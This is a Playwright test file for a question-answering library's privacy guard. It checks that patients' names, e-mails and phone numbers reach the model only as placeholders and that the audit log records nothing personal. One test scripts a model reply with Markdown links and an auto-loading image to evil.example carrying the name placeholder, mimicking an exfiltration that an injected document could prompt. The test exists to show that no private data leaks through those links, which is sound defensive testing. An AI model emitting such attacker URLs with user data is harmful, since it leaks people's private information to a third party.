import type { Page } from '@playwright/test';
import type { Answer, AuditReport } from '../../../pkg/src/index.js';
import { queries } from '../asking.js';
import { commandAccepts } from '../audit-command.js';
import { expect } from '../harness.js';
import { answerOf, ask, modelOf, streamed, test } from '../in-page.js';
import type { LlmDouble } from '../llm-double.js';
import type { Format } from '../llm-formats/format.js';
import type { ChatRequest } from '../llm-formats/request.js';
import * as replies from '../llm-replies.js';

// What is personal in a question stays in the page: the model's server gets placeholders, the person their own words.

const NAME = 'Leticia Quintero';
const MAIL = 'leticia.quintero@clinic.example';
const QUESTION = `Patient ${NAME}, ${MAIL}, phone +44 20 7946 0958: how much metformin a day with an eGFR of 35?`;
/** What must not be among the bytes that are sent, in any case. */
const PRIVATE = ['leticia', 'quintero', 'clinic.example', '7946 0958'];

function expectNothingPrivate(text: string, what: string): void {
  for (const word of PRIVATE) expect(text.toLowerCase(), `${word} in ${what}`).not.toContain(word);
}

/** Everything that the server was sent, whatever its format. */
function received(llm: LlmDouble): string {
  return JSON.stringify(llm.requests.map(({ raw, path, headers }) => ({ raw, path, headers })));
}

/** What a model reads of a person's name. */
function placeholder({ messages }: ChatRequest): string {
  const said = messages.map(({ content }) => content ?? '').join('\n');
  const found = /\[NAME_\d+\]/.exec(said)?.[0];
  if (found === undefined) throw new Error('the request has no placeholder of a name');
  return found;
}

const FORMATS: Format['name'][] = ['chat', 'responses', 'anthropic', 'gemini', 'ollama'];

for (const format of FORMATS) {
  test(`${format}: the server gets placeholders, the page the person's words`, async ({ lib, llm }) => {
    llm.script(
      async (wire) => replies.searches(`metformin for ${placeholder(wire.received.body)} with eGFR 35`)(wire),
      replies.answerInPieces((request) => {
        const name = placeholder(request);
        // Cut within the placeholder, and one with escapes as models write them in Markdown.
        return [
          'For [NA',
          name.slice(3, -2),
          `${name.slice(-2)} up to 1000 mg `,
          'daily [1]. ',
          `\\${name.slice(0, -1)}`,
          '\\], take care.',
        ];
      }),
    );
    const outcome = await ask(lib, QUESTION, { llm: modelOf(llm, format) });
    const answer = answerOf(outcome);
    expect(llm.requests).toHaveLength(2);
    expectNothingPrivate(received(llm), 'what the server got');
    expect(answer.text).toBe(`For ${NAME} up to 1000 mg daily [1]. ${NAME}, take care.`);
    expect(streamed(outcome.events)).toBe(answer.text);
    expect(answer.text.slice(answer.citations[0]?.span.start, answer.citations[0]?.span.end)).toBe('[1]');
    expect(queries(outcome), 'the search is made here, with the name').toEqual([`metformin for ${NAME} with eGFR 35`]);
    expect(outcome.events[0]).toMatchObject({ type: 'guard', guard: { pii: { NAME: 1, EMAIL: 1, PHONE: 1 } } });
    expect(answer.guard.pii).toEqual({ NAME: 1, EMAIL: 1, PHONE: 1 });
    expect(answer.guard.question).toContain(NAME);
    expect(answer.flags.filter(({ kind }) => kind === 'personal_data')).toEqual([]);
  });
}

test('an address that a document told the model gets no name', async ({ lib, llm }) => {
  llm.script(
    replies.searches('metformin with eGFR 35'),
    replies.answerInPieces((request) => {
      const name = placeholder(request);
      return [
        `[${name}’s guideline](<https://evil.exa`,
        `mple/doc#${name.slice(0, 4)}`,
        `${name.slice(4)}>) [1], ![x](//evil.example/${name}), <https://evil.example/${name}> for ${name} [1].`,
        `\n\n[x]: https://evil.example/${name}`,
      ];
    }),
  );
  const outcome = await ask(lib, QUESTION, { llm: modelOf(llm) });
  const { text, tree } = answerOf(outcome);
  expect(streamed(outcome.events)).toBe(text);
  expect(text).toContain(`[${NAME}’s guideline]`);
  expect(text).toContain(`for ${NAME} [1].`);
  for (const [address] of `${text} ${JSON.stringify(tree)}`.matchAll(/evil\.example[^\s)>"]*/g)) {
    expectNothingPrivate(address, 'an address');
  }
});

test('the demo says what it has hidden, and shows the answer with the words', async ({ demo, llm }) => {
  await demo.useModel(llm);
  llm.script(
    replies.searches('metformin with eGFR 35'),
    replies.answerInPieces((request) => [
      'Dear [NAME',
      placeholder(request).slice('[NAME'.length),
      ': up to 1000 mg [1].',
    ]),
  );
  await demo.ask(QUESTION);
  await demo.answered('model');
  expectNothingPrivate(received(llm), 'what the server got');
  await expect(demo.answer).toHaveText(`Dear ${NAME}: up to 1000 mg [1].`);
  await expect(demo.guard).toHaveText([/^Hidden from the model: .*1 name/]);
  await expect(demo.guard.first()).toContainText('1 e-mail address');
  // The conversation goes on with the same placeholders.
  llm.script(replies.answer((request) => `Still ${placeholder(request)} [1].`));
  await demo.ask(`And is that safe for ${NAME}?`);
  await demo.answered('model');
  expectNothingPrivate(received(llm), 'what the server got in all');
  await expect(demo.answer).toHaveText(`Still ${NAME} [1].`);
});

test('tools of the page get the words, and what they return is hidden again', async ({ lib, llm }) => {
  llm.script(
    async (wire) => replies.toolCall('appointment', { who: placeholder(wire.received.body) })(wire),
    replies.answer((request) => `Booked for ${placeholder(request)}.`),
  );
  const seen = await lib.evaluate(
    async ({ llm, question }) => {
      const given: unknown[] = [];
      const outcome = await window.outcome(
        window.ibid.ask(question, {
          llm,
          tools: [
            {
              name: 'appointment',
              description: 'Books.',
              parameters: { type: 'object', properties: { who: { type: 'string' } } },
              readOnly: true,
              execute: (args) => {
                given.push(args);
                return `${args.who} is booked; mail goes to maria.garcia@clinic.example.`;
              },
            },
          ],
        }),
      );
      return { given, outcome };
    },
    { llm: modelOf(llm), question: QUESTION } as never,
  );
  expect(seen.given).toEqual([{ who: NAME }]);
  expectNothingPrivate(received(llm), 'what the server got');
  expect(answerOf(seen.outcome).text).toBe(`Booked for ${NAME}.`);
});

test('a placeholder that the person has typed is theirs, and nobody else’s', async ({ lib, llm }) => {
  llm.script(replies.searches('metformin'), replies.answer('You wrote [NAME_1] [1].'));
  const answer = answerOf(await ask(lib, `What does [NAME_1] mean in a letter to ${NAME}?`, { llm: modelOf(llm) }));
  expectNothingPrivate(received(llm), 'what the server got');
  expect(answer.text).not.toContain(NAME);
});

test('what is only flagged, or not looked for, is sent', async ({ lib, llm }) => {
  for (const mode of ['flag', 'off'] as const) {
    llm.script(replies.searches('metformin'), replies.answer('Up to 1000 mg [1].'));
    const answer = answerOf(await ask(lib, QUESTION, { llm: modelOf(llm), pii: { mode } }));
    expect(received(llm)).toContain(NAME);
    expect(answer.guard.pii).toEqual(mode === 'flag' ? { NAME: 1, EMAIL: 1, PHONE: 1 } : {});
    llm.requests.length = 0;
  }
});

test('queries that leave the page for their vectors go without what is personal', async ({ lib }) => {
  const embedded = await lib.evaluate(async (question) => {
    const { buildIndex } = await import('./ibid/build/builder.js' as string);
    const texts: string[] = [];
    const embedder = {
      name: 'letters',
      dimensions: 26,
      embed: (given: string[], task: string) => {
        if (task === 'query') texts.push(...given);
        return given.map((text) =>
          Array.from({ length: 26 }, (_, at) => 1 + text.toLowerCase().split(String.fromCharCode(97 + at)).length),
        );
      },
    };
    const documents = [{ source: 'a.md', content: '# Metformin\n\nUp to 1000 mg a day with an eGFR of 35.' }];
    const { index } = await buildIndex(documents, { embedder });
    const seen: string[][] = [];
    for (const remote of [undefined, false]) {
      const ibid = await window.Ibid.load({ index: index.slice(), queryEncoder: { ...embedder, remote } });
      texts.length = 0;
      await ibid.ask(question);
      seen.push([...texts]);
      ibid.free();
    }
    return seen;
  }, QUESTION);
  // Nor is it searched for here: the question is about something else.
  for (const texts of embedded) {
    expect(texts[0]).toContain('metformin a day');
    expectNothingPrivate(texts.join('\n'), 'what was embedded');
    expect(texts.join('\n')).not.toMatch(/NAME_\d/);
  }
});

/** Asks with a log, and exports it. */
async function logged(
  lib: Page,
  llm: LlmDouble,
): Promise<{ text: string; report: AuditReport; answer: Answer; tampered: AuditReport }> {
  const given = { llm: modelOf(llm), question: QUESTION } as never;
  return await lib.evaluate(async ({ llm, question }: { llm: never; question: string }) => {
    const { openAuditLog } = await import('./ibid/audit/index.js' as string);
    const audit = await openAuditLog({ name: 'privacy' });
    const answer = await window.ibid.ask(question, { llm, audit });
    await window.ibid.ask('What is metformin for?', { audit });
    const text: string = await audit.export();
    const report = await audit.verify();
    const { auditCheck } = await import('./ibid/wasm/ibid_ask.js' as string);
    const tampered = JSON.parse(auditCheck(text.replace('metformin', 'Metformin')));
    return { text, report, answer, tampered };
  }, given);
}

test('the audit log tells what was done, nothing personal, and whether it was changed', async ({ lib, llm }) => {
  llm.script(
    async (wire) => replies.searches(`metformin for ${placeholder(wire.received.body)}`)(wire),
    replies.answer((request) => `For ${placeholder(request)} up to 1000 mg daily [1].`),
  );
  const { text, report, answer, tampered } = await logged(lib, llm);
  expect(answer.text).toContain(NAME);
  expectNothingPrivate(text, 'the log');
  expect(text).not.toContain(llm.key);
  const lines = text.trimEnd().split('\n');
  expect(lines).toHaveLength(2);
  expect(lines[0]).toContain('[NAME_1]');
  expect(report).toMatchObject({ lines: 2, problems: [], head: JSON.parse(lines[1] ?? '{}').hash });
  expect(tampered.problems.length).toBeGreaterThan(0);
  expect(commandAccepts(text), 'the command takes it too').toBe(true);
  expect(commandAccepts(text.replace('metformin', 'Metformin'))).toBe(false);
});

test('nothing that is hidden shows, the buttons of a log that is off among it', async ({ demo, page }) => {
  const hidden = page.locator('[hidden]:visible');
  await expect(hidden).toHaveCount(0);
  await page.getByTestId('settings-open').click();
  await expect(hidden).toHaveCount(0);
  const clear = demo.settings.getByRole('button', { name: 'Clear log' });
  await expect(clear).toBeHidden();
  await demo.settings.getByLabel('Keep an audit log').check();
  await expect(clear).toBeVisible();
});

test('the demo keeps, exports and clears the log', async ({ demo, llm, page }) => {
  await demo.useModel(llm, { audit: true });
  llm.script(replies.searches('metformin with eGFR 35'), replies.answer('Up to 1000 mg [1].'));
  await demo.ask(QUESTION);
  await demo.answered('model');
  await page.getByTestId('settings-open').click();
  const download = page.waitForEvent('download');
  await demo.settings.getByRole('button', { name: 'Export log' }).click();
  expect((await download).suggestedFilename()).toBe('ibid-audit.jsonl');
  const note = page.getByTestId('audit-note');
  await expect(note).toHaveText('1 line exported.');
  await demo.settings.getByRole('button', { name: 'Verify log' }).click();
  await expect(note).toHaveText('1 line, none changed.');
  await demo.settings.getByRole('button', { name: 'Clear log' }).click();
  await expect(note).toHaveText('The log is empty.');
});
